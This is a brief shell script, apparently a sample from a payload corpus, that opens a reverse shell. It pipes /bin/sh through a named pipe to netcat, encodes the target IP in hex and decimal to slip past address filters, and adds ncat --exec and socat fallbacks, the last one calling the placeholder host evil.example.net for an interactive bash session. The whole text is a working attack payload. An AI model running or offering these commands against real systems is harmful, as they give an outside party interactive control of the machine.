# corpus: named-pipe netcat reverse shell to a hex-encoded loopback-bypass IP with ncat and socat fallbacks
F=/tmp/.p$$
rm -f "$F"; mkfifo "$F"
TARGET=0x7f000001
cat "$F" | /bin/sh -i 2>&1 | nc "$TARGET" 31337 > "$F" &
ncat --exec /bin/sh 2130706433 31337 2>/dev/null &
socat TCP:evil.example.net:443 EXEC:'/bin/bash -li',pty,stderr,setsid,sigint,sane 2>/dev/null &
